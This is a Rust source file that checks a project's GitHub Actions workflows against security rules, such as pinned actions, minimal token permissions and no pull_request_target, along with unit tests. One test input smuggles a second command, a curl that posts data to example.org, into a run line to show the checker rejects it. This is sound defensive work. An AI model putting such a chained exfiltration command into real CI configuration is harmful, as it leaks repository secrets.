//! The rules of this project's workflows, held without an installed tool. They are read line by line:
//! a YAML library would be paid for by every contributor's build, and three files in one plain style
//! do not need it. What is not in that style is a fault, so nothing hides from the rules.

use std::fs;
use std::time::Instant;

use anyhow::{Context, Result};
use camino::{Utf8Path, Utf8PathBuf};

use super::{Outcome, Row};

/// All workflows together; longer ones have logic in them that belongs into xtask.
const MOST_LINES: usize = 150;

/// The workflows that have to be there, and the lines that others rely on: users on the schedule,
/// `check-upstream` on the title and the input.
const WANTED: [(&str, &[&str]); 3] = [
    ("ci.yml", &[]),
    (
        "buildkit-weekly-build.yml",
        &["run-name: BuildKit ${{ inputs.buildkit_ref || 'master' }}", "- cron: \"30 6 * * 0\"", "buildkit_ref:"],
    ),
    ("track-buildkit-releases.yml", &["- cron: \"0 9 * * *\"", "workflow_dispatch:"]),
];

/// Reads the workflows among the files of the checkout at `root`.
pub fn check(root: &Utf8Path, paths: &[Utf8PathBuf]) -> Result<Row> {
    let started = Instant::now();
    let read = |path: &Utf8PathBuf| {
        let text = fs::read_to_string(root.join(path)).with_context(|| format!("cannot read {path}"))?;
        anyhow::Ok((path.file_name().unwrap_or_default().to_owned(), text))
    };
    let files = paths.iter().map(read).collect::<Result<Vec<_>>>()?;
    let faults = faults_of_all(&files);
    let outcome = if faults.is_empty() {
        Outcome::Passed(format!("{} files, {} of {MOST_LINES} lines", files.len(), lines_of(&files)))
    } else {
        faults.iter().for_each(|fault| eprintln!("{fault}"));
        Outcome::Failed(format!("{} faults, the first: {}", faults.len(), faults[0]))
    };
    Ok(Row::new("workflow rules", outcome, started))
}

fn lines_of(files: &[(String, String)]) -> usize {
    files.iter().map(|(_, text)| text.lines().count()).sum()
}

fn faults_of_all(files: &[(String, String)]) -> Vec<String> {
    let mut found: Vec<String> = files.iter().flat_map(|(name, text)| faults(name, text)).collect();
    let missing = WANTED.iter().filter(|(wanted, _)| !files.iter().any(|(name, _)| name == wanted));
    found.extend(missing.map(|(wanted, _)| format!("{wanted}: there is no such workflow")));
    if lines_of(files) > MOST_LINES {
        found.push(format!("the workflows have {} lines, more than {MOST_LINES}", lines_of(files)));
    }
    found
}

/// What is wrong with the workflow `text` of the file `name`, each as `name:line: what`.
fn faults(name: &str, text: &str) -> Vec<String> {
    let lines: Vec<Line> = text.lines().zip(1..).filter_map(|(line, number)| Line::parse(line, number)).collect();
    let mut found: Vec<(usize, String)> =
        lines.iter().filter_map(|line| Some((line.number, line.odd_style()?))).collect();
    let mut must = |holds: bool, number: usize, what: &str| {
        if !holds {
            found.push((number, what.to_owned()));
        }
    };
    let top = |text: &str| lines.iter().any(|line| line.indent == 0 && line.text.starts_with(text));
    must(top("permissions: {}"), 1, "needs `permissions: {}` at the top: each job names what it needs");
    must(top("concurrency:"), 1, "needs `concurrency:` at the top: two runs at once publish the same thing twice");
    let wanted = WANTED.iter().find(|(file, _)| *file == name).map_or(&[][..], |(_, wanted)| wanted);
    for text in wanted {
        must(lines.iter().any(|line| line.text == *text), 1, &format!("needs the line `{text}`"));
    }
    let on_pull_requests = lines.iter().any(|line| line.key() == "pull_request");
    for (at, line) in lines.iter().enumerate() {
        let value = line.value();
        match line.key() {
            "run" => {
                let goes_on = lines.get(at + 1).is_some_and(|next| next.indent > line.key_indent());
                must(is_task(value) && !goes_on, line.number, "`run:` is one line `cargo xtask …` of plain words");
            }
            "uses" => {
                must(is_pinned(value, line.comment), line.number, "`uses:` is OWNER/NAME@ and 40 digits, then `# v…`");
                let step = lines[at + 1..].iter().take_while(|next| next.indent >= line.key_indent());
                let keeps_token = value.starts_with("actions/checkout@")
                    && !step.into_iter().any(|next| next.text == "persist-credentials: false");
                must(!keeps_token, line.number, "a checkout needs `persist-credentials: false`");
            }
            "pull_request_target" => must(false, line.number, "runs strangers' changes with this repository's token"),
            "runs-on" if on_pull_requests => {
                must(value == "ubuntu-latest", line.number, "strangers' changes run on GitHub's machines alone");
            }
            _ => {}
        }
    }
    let mut jobs = lines.iter().skip_while(|line| line.text != "jobs:").skip(1).peekable();
    while let Some(job) = jobs.next() {
        let mut keys = Vec::new();
        while let Some(line) = jobs.next_if(|line| line.indent > job.indent) {
            keys.extend((line.indent == job.indent + 2).then_some(line.key()));
        }
        for needed in ["permissions", "timeout-minutes"] {
            must(keys.contains(&needed), job.number, &format!("the job {} needs `{needed}:`", job.key()));
        }
    }
    found.sort();
    found.into_iter().map(|(number, what)| format!("{name}:{number}: {what}")).collect()
}

/// A line that is more than a comment.
struct Line<'a> {
    number: usize,
    indent: usize,
    /// Without indentation and comment.
    text: &'a str,
    comment: &'a str,
}

impl<'a> Line<'a> {
    fn parse(line: &'a str, number: usize) -> Option<Self> {
        let indent = line.len() - line.trim_start().len();
        let body = line.trim_start();
        let (text, comment) =
            if body.starts_with('#') { ("", body) } else { body.split_once(" #").unwrap_or((body, "")) };
        (!text.trim().is_empty()).then(|| Self { number, indent, text: text.trim_end(), comment: comment.trim() })
    }

    /// The text behind the dash of a list's entry.
    fn entry(&self) -> &'a str {
        self.text.strip_prefix("- ").unwrap_or(self.text)
    }

    fn key(&self) -> &'a str {
        self.entry().split_once(':').map_or("", |(key, _)| key)
    }

    fn value(&self) -> &'a str {
        self.entry().split_once(':').map_or("", |(_, value)| value.trim())
    }

    /// Where the key begins: what is indented further belongs to it.
    fn key_indent(&self) -> usize {
        self.indent + self.text.len() - self.entry().len()
    }

    /// Why this line is not in the style that the rules can read, if it is not: keys in quotes, mappings in
    /// braces, texts of several lines, aliases and tabs could all carry a `run:` past them.
    fn odd_style(&self) -> Option<String> {
        let begins = self.entry().starts_with(['"', '\'', '{', '[', '&', '*', '?', '!', '<', '\t']);
        let braces = self.value().starts_with(['{', '[', '&', '*', '|', '>', '!']) && self.value() != "{}";
        let lists = ["branches", "needs"].contains(&self.key()) && self.value().starts_with('[');
        (begins || braces && !lists).then(|| "write it in block style, with plain keys and one-line values".to_owned())
    }
}

/// No quotes, variables, operators or expressions: what a shell could read in more than one way is for xtask.
fn is_task(command: &str) -> bool {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || " ./=_-".contains(c);
    command.starts_with("cargo xtask ") && command.chars().all(is_plain)
}

fn is_pinned(action: &str, comment: &str) -> bool {
    let commit = action.split_once('@').map_or("", |(_, commit)| commit);
    let is_commit = commit.len() == 40 && commit.bytes().all(|byte| matches!(byte, b'0'..=b'9' | b'a'..=b'f'));
    let says_version = comment.strip_prefix('v').is_some_and(|rest| rest.starts_with(|c: char| c.is_ascii_digit()));
    is_commit && says_version
}

#[cfg(test)]
mod tests {
    use super::*;

    const GOOD: &str = "\
name: CI
on:
  push:
    branches: [main]
  pull_request:
permissions: {} # none
concurrency:
  group: ci
jobs:
  ci:
    runs-on: ubuntu-latest
    timeout-minutes: 90
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1
        with:
          persist-credentials: false
      - run: cargo xtask ci
        env:
          TOKEN: ${{ github.token }}
";

    #[test]
    fn a_workflow_that_keeps_the_rules_has_no_fault() {
        assert_eq!(faults("ci.yml", GOOD), Vec::<String>::new());
    }

    /// Each rule, by a change that breaks it alone, and a word of what is then said.
    #[test]
    fn each_rule_is_seen_to_be_broken() {
        let run = "run: cargo xtask ci\n";
        for (from, to, said) in [
            ("permissions: {} # none", "permissions: read-all", "ci.yml:1: needs `permissions: {}`"),
            ("concurrency:\n  group: ci\n", "", "ci.yml:1: needs `concurrency:`"),
            ("    timeout-minutes: 90\n", "", "ci.yml:10: the job ci needs `timeout-minutes:`"),
            ("    permissions:\n      contents: read\n", "", "ci.yml:10: the job ci needs `permissions:`"),
            ("          persist-credentials: false\n", "          fetch-depth: 0\n", "ci.yml:16: a checkout needs"),
            ("@3d3c42e5aac5ba805825da76410c181273ba90b1", "@v7", "ci.yml:16: `uses:`"),
            ("@3d3c42e5aac5ba805825da76410c181273ba90b1", "@3d3c42e", "ci.yml:16: `uses:`"),
            (" # v7.0.1", "", "ci.yml:16: `uses:`"),
            (run, "run: cargo xtask ci --only ${{ inputs.name }}\n", "ci.yml:19: `run:`"),
            (run, "run: cargo xtask ci && curl -d @- example.org\n", "ci.yml:19: `run:`"),
            (run, "run: cargo test\n", "ci.yml:19: `run:`"),
            (run, "run: cargo xtask\n          ci $TOKEN\n", "ci.yml:19: `run:`"),
            (run, "run: cargo xtask ci\n          $TOKEN\n", "ci.yml:19: `run:`"),
            (run, "run: |\n          cargo xtask ci\n", "ci.yml:19: write it in block style"),
            (run, "\"run\": cargo test\n", "ci.yml:19: write it in block style"),
            (run, "{ run: cargo test }\n", "ci.yml:19: write it in block style"),
            ("  push:\n    branches: [main]\n", "  pull_request_target:\n", "ci.yml:3: runs strangers' changes"),
            ("runs-on: ubuntu-latest", "runs-on: self-hosted", "ci.yml:11: strangers' changes"),
        ] {
            assert!(GOOD.contains(from), "{from}");
            let found = faults("ci.yml", &GOOD.replace(from, to));
            assert!(found.iter().any(|fault| fault.starts_with(said)), "{to}: {found:?}");
        }
    }

    #[test]
    fn schedule_title_and_input_are_held_to_the_seed() {
        let found = faults("buildkit-weekly-build.yml", GOOD);
        assert_eq!(found.len(), 3, "{found:?}");
        assert!(found.iter().any(|fault| fault.contains("30 6 * * 0")), "{found:?}");
        assert!(faults("track-buildkit-releases.yml", GOOD)[0].contains("0 9 * * *"));
    }

    #[test]
    fn missing_workflows_and_long_ones_are_faults() {
        let long = GOOD.to_owned() + &"\n".repeat(150);
        let found = faults_of_all(&[("ci.yml".to_owned(), long)]);
        assert_eq!(found[0], "buildkit-weekly-build.yml: there is no such workflow");
        assert_eq!(found[2], "the workflows have 171 lines, more than 150");
    }
}
